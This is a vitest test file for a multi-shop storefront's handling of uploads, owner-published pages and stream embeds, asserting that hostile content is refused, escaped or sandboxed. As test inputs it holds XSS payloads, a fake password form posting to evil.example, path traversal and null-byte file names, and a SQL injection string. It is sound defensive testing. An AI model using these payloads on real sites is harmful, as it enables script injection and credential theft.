import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createStorefront, type Storefront } from '@promenade/storefront-sdk';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { Database } from './db/index.ts';
import { storedKey } from './limits/rate-limits.ts';
import { readCommandLine } from './operator/command-line.ts';
import { engines, openTestDatabase } from './testing/databases.ts';
import { goodJpeg, goodPng } from './testing/pictures.ts';
import { refusal } from './testing/refusal.ts';
import { createTestShop, injectedFetch, newUuid, someSku, type TestShop } from './testing/test-shop.ts';

/*
 * Content of others: files that shoppers send, pages that owners of shops write. Whatever is in it, it must not act in the
 * name of the shop.
 */

const SECOND = 'foyer-lune.localhost';
const hostile = '<script>alert(document.cookie)</script><form action="https://evil.example"><input type="password">';

const fileOf = (content: Buffer, name = 'holiday.png', type = 'image/png') =>
  new File([Uint8Array.from(content)], name, { type });

const paper = (text: string) => Buffer.from(text, 'latin1');
const goodPdf = paper('%PDF-1.7\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n');

describe.each(engines)('content of others on %s', (engine) => {
  let database: Database;
  let testShop: TestShop;
  let second: Storefront;
  const folder = mkdtempSync(join(tmpdir(), 'promenade-pages-'));

  beforeAll(async () => {
    database = await openTestDatabase(engine);
    testShop = await createTestShop(database);
    second = at('en');
  });
  afterAll(async () => {
    await testShop?.close();
    await database?.close();
    rmSync(folder, { recursive: true, force: true });
  });

  const at = (locale: string, host = SECOND) =>
    createStorefront({
      baseUrl: `http://${host}`,
      fetch: injectedFetch(testShop.app),
      retries: 0,
      headers: () => ({ 'accept-language': locale }),
    });
  const get = (url: string) => testShop.app.inject({ method: 'GET', url });

  test('a picture is served with its detected type, and never rendered as a page of the shop', async () => {
    const { shop } = await testShop.newShopper();
    for (const [content, extName, type] of [
      [goodPng, 'png', 'png'],
      [goodJpeg, 'jpg', 'jpeg'],
    ] as const) {
      // The name and type sent by the client are ignored.
      const file = await shop.uploads.image({ file: fileOf(content, '../../../etc/cron.d/x.html', 'text/html') });
      expect(file).toMatchObject({ extName, type, url: `/media/uploads/${file.fileName}` });
      expect(file.fileName).toMatch(/^[\w-]{22}\.(jpg|png)$/);
      const answer = await get(file.url);
      expect(answer.rawPayload).toHaveLength(file.fileSize);
      expect(await sharp(answer.rawPayload).metadata()).toMatchObject({ format: type, width: 60, height: 40 });
      expect(answer.headers).toMatchObject({
        'content-type': `image/${type}`,
        'x-content-type-options': 'nosniff',
        'content-security-policy': "default-src 'none'; sandbox; frame-ancestors 'none'",
        'content-disposition': `attachment; filename="${file.fileName}"`,
        'cache-control': 'no-store',
      });
    }
  });

  test('a PDF is accepted for download only; files that only look like one are refused', async () => {
    const { shop } = await testShop.newShopper();
    const { url, type } = await shop.uploads.file({ file: fileOf(goodPdf, 'papers.pdf', 'application/pdf') });
    const { headers, rawPayload } = await get(url);
    expect([type, rawPayload.equals(goodPdf)]).toEqual(['pdf', true]);
    expect(headers).toMatchObject({ 'content-type': 'application/pdf' });
    expect(headers['content-disposition']).toMatch(/^attachment/);
    expect((await shop.uploads.file({ file: fileOf(goodPng) })).type).toBe('png');
    const page = '<script>alert(1)</script>';
    for (const fake of [`${page}${goodPdf}`, `${goodPdf}${page}`, `%PDF-1.7${page}`, `%PDF-${page}%%EOF`]) {
      expect(await refusal(shop.uploads.file({ file: fileOf(paper(fake)) }))).toMatch(
        /^invalid: Please choose a JPG or PNG/,
      );
    }
    expect(await refusal(shop.uploads.image({ file: fileOf(goodPdf) }))).toMatch(/Please choose a JPG or PNG/);
  });

  test('no other address is a file', async () => {
    const { shop } = await testShop.newShopper();
    const { fileName } = await shop.uploads.image({ file: fileOf(goodPng) });
    const [name = ''] = fileName.split('.');
    const others = [
      `${name}.jpg`,
      name,
      `${fileName}/`,
      `${fileName}%00.html`,
      `..%2f${fileName}`,
      '../../app.ts',
      "' or 1=1",
    ];
    for (const other of others) {
      expect((await get(`/media/uploads/${encodeURI(other)}`)).statusCode, other).toBe(404);
    }
  });

  test('needs a sign-in, and has an end within an hour', async () => {
    expect(await refusal(testShop.guest().uploads.image({ file: fileOf(goodPng) }))).toBe('auth: Please sign in');
    const { id, shop } = await testShop.newShopper();
    const used = { key: storedKey(`upload:hour:${id}`), window_start: Date.now(), count: 99 };
    await database.db.insertInto('rate_limits').values(used).execute();
    await shop.uploads.image({ file: fileOf(goodPng) });
    expect(await refusal(shop.uploads.image({ file: fileOf(goodPng) }))).toMatch(/^rate-limited/);
  });

  test('the host name selects the shop', async () => {
    const [here, there] = [await testShop.guest().store.details(), await second.store.details()];
    expect([here.id, there.id]).toEqual([1, 2]);
    expect(there).toMatchObject({ showDefaultNavBar: false, showDefaultFooter: false, landingPageShowFooter: false });
    expect(await testShop.guest().store.details({ hostName: `${SECOND.toUpperCase()}:3000` })).toEqual(there);
    expect((await at('en', 'unheard-of.example').store.details()).id).toBe(1);
    const theme = await second.store.theme();
    expect([theme.mode, Object.keys(theme.tokens)[0]]).toEqual(['dark', '--pm-radius-factor']);
    expect(await testShop.guest().store.theme({ storeId: 2 })).toEqual(theme);
    expect(await second.store.payCurrency()).toMatchObject({ currency: 'USD', symbol: 'US$' });
    expect((await second.store.homeIndex()).shopPayCurrency).toEqual(await second.store.payCurrency());
    expect(await second.store.imageDomain()).toBe('http://shop.test');
  });

  test('every type of page is there, in both languages', async () => {
    const kinds = [
      ...(['HEADER', 'FOOTER', 'HOME'] as const).map((type) => ({ type })),
      { type: 'LANDING', slug: 'evening-oil-lamp' } as const,
      { type: 'CUSTOM', slug: 'the-house' } as const,
    ];
    for (const kind of kinds) {
      const [english, french] = [await second.store.page(kind), await at('fr').store.page(kind)];
      expect(english).toMatchObject({ slug: null, ...kind });
      const [page, page_fr, css] = [english?.html, french?.html, english?.css].map((url) => get(url ?? ''));
      expect((await page)?.body).toMatch(/^<(div|section) class="fl-/);
      expect((await page_fr)?.body).not.toBe((await page)?.body);
      expect((await css)?.headers['content-type']).toBe('text/css; charset=utf-8');
      expect(await testShop.guest().store.page(kind)).toBeNull();
    }
    for (const type of ['LANDING', 'CUSTOM'] as const) {
      expect(await second.store.page({ type })).toBeNull();
      expect(await second.store.page({ type, slug: 'nothing' })).toBeNull();
    }
  });

  test('an owner’s content cannot act on behalf of the shop', async () => {
    writeFileSync(join(folder, 'page.html'), hostile);
    writeFileSync(join(folder, 'page.css'), '</style><script>alert(1)</script>');
    const typed = ['page', 'publish', 'header', join(folder, 'page.html'), '--css', join(folder, 'page.css')];
    const { command, input } = readCommandLine(typed);
    const said = await testShop.operate(command.name, input);
    expect(said).toEqual({ status: 200, message: 'The page HEADER is published.' });
    const page = await testShop.guest().store.page({ type: 'HEADER' });
    expect(page).toMatchObject({ type: 'HEADER', slug: null, name: 'HEADER' });
    for (const [url, type] of [
      [page?.html, 'text/html'],
      [page?.css, 'text/css'],
    ] as const) {
      expect(url).toMatch(/^\/media\/pages\/[0-9a-f]{32}\.(html|css)$/);
      expect((await get(url ?? '')).headers).toMatchObject({
        'content-type': `${type}; charset=utf-8`,
        'x-content-type-options': 'nosniff',
        'content-security-policy': "default-src 'none'; sandbox; frame-ancestors 'none'",
        'content-disposition': expect.stringMatching(/^attachment/),
        'cache-control': 'public, max-age=31536000, immutable',
      });
    }
    const name = page?.html.split('/').at(-1)?.split('.')[0];
    for (const other of [`${name}.css`, `${name}.svg`, `${name}`, `../uploads/${name}.html`, '..%2f..%2fapp.ts']) {
      expect((await get(`/media/pages/${other}`)).statusCode, other).toBe(404);
    }
  });

  test('a page is replaced and withdrawn; URLs of old files do not change their content', async () => {
    const page = { type: 'CUSTOM', slug: 'about' } as const;
    const publish = (html: string, more = {}) =>
      testShop.operate('page publish', { ...page, html, host: SECOND, ...more });
    await publish('<p>One</p>');
    const first = await second.store.page(page);
    expect(first).toMatchObject({ css: '', name: 'CUSTOM about' });
    expect((await at('fr').store.page(page))?.html).toBe(first?.html);
    await publish('<p>Two</p>', { name: 'About us', htmlFr: '<p>Deux</p>' });
    const next = await second.store.page(page);
    expect(next).toMatchObject({ name: 'About us' });
    expect((await get(next?.html ?? '')).body).toBe('<p>Two</p>');
    expect((await get(first?.html ?? '')).body).toBe('<p>One</p>');
    const withdraw = () => testShop.operate('page withdraw', { ...page, host: SECOND });
    expect([(await withdraw()).status, (await withdraw()).status]).toEqual([200, 404]);
    expect(await second.store.page(page)).toBeNull();
  });

  test('invalid commands return the reason', async () => {
    const commands: [name: string, input: Record<string, string>, sentence: RegExp][] = [
      ['page publish', { type: 'POPUP', html: 'x' }, /A page is one of HEADER, FOOTER/],
      ['page publish', { type: 'CUSTOM', html: 'x' }, /A CUSTOM page needs a slug/],
      ['page publish', { type: 'LANDING', html: 'x', slug: '../order' }, /A LANDING page needs a slug/],
      ['page publish', { type: 'HOME', html: 'x', slug: 'home' }, /A HOME page has no slug/],
      ['page publish', { type: 'HOME', html: 'x', host: 'nowhere.example' }, /no shop at nowhere\.example/],
      ['page publish', { type: 'HOME', html: 'x'.repeat(262_145) }, /^At most 262144 characters \(html\)$/],
      ['page publish', { type: 'HOME', html: 'a\0b' }, /^This does not look right \(html\)$/],
      ['stream stop', {}, /does not stream/],
      ...[
        'http://player.example/',
        'javascript:alert(1)',
        'https://a:b@player.example/',
        'https://shop.test:8443/',
        'player',
      ]
        .concat('https://foyer-lune.localhost/x', 'data:text/html,x', `https://player.example/${'&'.repeat(500)}`)
        .map((address): [string, Record<string, string>, RegExp] => [
          'stream start',
          { address },
          /needs the https address/,
        ]),
    ];
    for (const [name, input, sentence] of commands) {
      const { status, message } = await testShop.operate(name, input);
      expect([400, 404]).toContain(status);
      expect(message).toMatch(sentence);
    }
    expect(() => readCommandLine(['page', 'publish', 'HOME', join(folder, 'none.html')])).toThrow('cannot be read');
  });

  test('a stream starts as one frame of another origin, and stops', async () => {
    expect(await testShop.guest().store.streamingChannel()).toBeNull();
    expect((await second.store.streamingChannel())?.content).toContain('src="https://player.example/live/foyer-lune"');
    const address = 'https://player.example/live?a=1&b="><script>alert(1)</script>';
    const title = '"><img src=x onerror=alert(1)>';
    await testShop.operate('stream start', { address, title });
    const channel = await testShop.guest().store.streamingChannel();
    expect(channel?.type).toBe('IFRAME');
    expect(channel?.content.match(/[<>]/g)).toHaveLength(4);
    expect(channel?.content).toMatch(
      /^<iframe src="https:\/\/player\.example\/live\?a=1&amp;b=%22%3E[^"<>]*" title="&quot;/,
    );
    expect(channel?.content).toContain('sandbox="allow-scripts allow-same-origin allow-presentation"');
    expect((await testShop.operate('stream stop', {})).status).toBe(200);
    expect(await testShop.guest().store.streamingChannel()).toBeNull();
    expect(await second.store.streamingChannel()).not.toBeNull();
  });

  test('neither shop knows the goods of the other', async () => {
    const theirs = (await second.products.list({ limit: 50 })).list;
    expect(theirs.length).toBeGreaterThan(10);
    const [card] = theirs;
    if (!card) throw new Error('the second shop is empty');
    const here = testShop.guest();
    const key = { uniqueKey: card.uniqueKey, slug: card.slug };
    expect((await second.products.detail(key)).productInfo.id).toBe(card.id);
    expect(await refusal(here.products.detail(key))).toMatch(/^not-found/);
    expect((await here.products.byIds({ ids: [card.id] })).list).toEqual([]);
    const [own, uuid] = [await someSku(database), newUuid()];
    const line = { productId: own.productId, productAttrUnique: own.attrId, cartNum: 1, storeId: 2, uuid };
    expect(await refusal(second.cart.save([line]))).toMatch(/^not-found/);
    expect(await second.merchants.directory()).toMatchObject({
      total: 1,
      list: [{ name: 'Foyer Lune', isSelf: true }],
    });
    expect((await second.categories.tree()).map(({ slug }) => slug)).toEqual(['home-and-garden']);
  });
});
